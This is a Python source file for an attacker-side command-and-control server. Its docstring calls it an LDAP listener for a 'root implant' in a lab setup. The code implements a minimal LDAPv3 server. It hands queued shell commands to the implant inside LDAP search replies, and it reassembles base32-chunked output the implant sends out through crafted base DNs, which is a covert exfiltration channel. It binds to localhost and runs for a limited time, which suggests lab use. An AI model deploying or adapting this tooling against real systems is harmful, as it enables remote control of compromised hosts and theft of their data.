#!/usr/bin/env python3
"""The attacker's LDAP listener (remote party, labremote): a minimal LDAPv3
server (BER by hand) for the root implant's curl ldap:// polls.
  poll:    base cn=<node>,ou=nodes,dc=cdn-edge,dc=lab  -> an entry whose
           description is 'T<n> <base64 command>' when a task is queued
           (a file <queue>/<n>.cmd), else no entry
  answer:  base cn=<seq>-<base32 chunk>,ou=r<n>,ou=sync,dc=cdn-edge,dc=lab
           and cn=end-<count>,ou=r<n>,... : chunks reassembled into <out>/<n>.ans
Every request is logged (time, peer, base DN) to --log."""
import argparse, base64, os, socket, threading, time

def rd_len(b, i):
    l = b[i]; i += 1
    if l < 0x80:
        return l, i
    n = l & 0x7f
    return int.from_bytes(b[i:i + n], 'big'), i + n

def tlv(b, i):
    t = b[i]; l, j = rd_len(b, i + 1)
    return t, b[j:j + l], j + l

def enc_len(n):
    if n < 0x80:
        return bytes([n])
    s = n.to_bytes((n.bit_length() + 7) // 8, 'big')
    return bytes([0x80 | len(s)]) + s

def T(tag, body):
    return bytes([tag]) + enc_len(len(body)) + body

def INT(v, tag=0x02):
    return T(tag, v.to_bytes(max(1, (v.bit_length() + 8) // 8), 'big'))

def OS(s):
    return T(0x04, s if isinstance(s, bytes) else s.encode())

def msg(mid, op):
    return T(0x30, INT(mid) + op)

def result(tag, code=0):
    return T(tag, INT(code, 0x0a) + OS('') + OS(''))

class Srv:
    def __init__(s, a):
        s.a = a; s.lock = threading.Lock(); s.chunks = {}
        os.makedirs(a.queue, exist_ok=True); os.makedirs(a.out, exist_ok=True)

    def log(s, peer, what):
        with s.lock, open(s.a.log, 'a') as f:
            f.write('%s\t%s\t%s\n' % (time.strftime('%H:%M:%S', time.gmtime()), peer, what))

    def search(s, base):
        low = base.lower()
        parts = [p.split('=', 1)[1] if '=' in p else p for p in base.split(',')]
        if ',ou=nodes,' in low:
            for n in sorted(os.listdir(s.a.queue)):
                if n.endswith('.cmd'):
                    p = os.path.join(s.a.queue, n)
                    cmd = open(p, 'rb').read()
                    os.rename(p, p + '.sent')
                    return 'T%s %s' % (n[:-4], base64.b64encode(cmd).decode())
            return None
        if ',ou=sync,' in low and len(parts) > 2 and parts[1].startswith('r'):
            task, cn = parts[1][1:], parts[0]
            seq, _, data = cn.partition('-')
            with s.lock:
                d = s.chunks.setdefault(task, {})
                if seq == 'end':
                    raw = ''.join(d[k] for k in sorted(d))
                    raw += '=' * (-len(raw) % 8)
                    try:
                        out = base64.b32decode(raw)
                    except Exception as e:
                        out = ('(decode error %s)' % e).encode()
                    with open(os.path.join(s.a.out, task + '.ans'), 'wb') as f:
                        f.write(out)
                else:
                    d[int(seq)] = data.upper()
            return None
        return None

    def conn(s, c, peer):
        buf = b''
        try:
            c.settimeout(30)
            while True:
                d = c.recv(65536)
                if not d:
                    return
                buf += d
                while len(buf) >= 2:
                    try:
                        l, j = rd_len(buf, 1)
                    except IndexError:
                        break
                    if len(buf) < j + l:
                        break
                    m, buf = buf[:j + l], buf[j + l:]
                    _, body, _ = tlv(m, 0)
                    _, mid_b, k = tlv(body, 0)
                    mid = int.from_bytes(mid_b, 'big')
                    op, opb, _ = tlv(body, k)
                    if op == 0x60:
                        c.sendall(msg(mid, result(0x61)))
                    elif op == 0x63:
                        _, base, _ = tlv(opb, 0)
                        base = base.decode('utf-8', 'replace')
                        self_log = base if len(base) < 200 else base[:200] + '...'
                        s.log(peer, 'search ' + self_log)
                        val = s.search(base)
                        if val is not None:
                            attrs = T(0x30, T(0x30, OS('description') + T(0x31, OS(val))))
                            c.sendall(msg(mid, T(0x64, OS(base) + attrs)))
                        c.sendall(msg(mid, result(0x65)))
                    elif op == 0x42:
                        return
                    else:
                        s.log(peer, 'op 0x%02x' % op)
                        c.sendall(msg(mid, result(0x78 if op == 0x77 else 0x65, 2)))
        except Exception as e:
            s.log(peer, 'error %s' % e)
        finally:
            c.close()

def main():
    ap = argparse.ArgumentParser()
    ap.add_argument('--port', type=int, default=3389)
    ap.add_argument('--queue', required=True)
    ap.add_argument('--out', required=True)
    ap.add_argument('--log', required=True)
    ap.add_argument('--lifetime', type=int, default=900)
    a = ap.parse_args()
    s = Srv(a)
    ls = socket.socket(); ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind(('127.0.0.1', a.port)); ls.listen(16); ls.settimeout(1)
    end = time.time() + a.lifetime
    while time.time() < end:
        try:
            c, p = ls.accept()
        except socket.timeout:
            continue
        threading.Thread(target=s.conn, args=(c, '%s:%d' % p), daemon=True).start()

if __name__ == '__main__':
    main()
